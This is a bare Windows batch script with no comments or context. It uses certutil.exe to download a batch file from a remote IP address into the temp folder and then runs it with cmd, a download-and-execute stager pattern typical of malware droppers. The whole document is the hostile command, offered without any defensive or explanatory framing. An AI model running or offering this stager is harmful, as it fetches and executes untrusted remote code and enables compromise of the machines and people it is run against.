@echo off
certutil.exe -urlcache -f http://198.51.100.9/sdd.bat %TEMP%\sdd.bat
cmd /c %TEMP%\sdd.bat
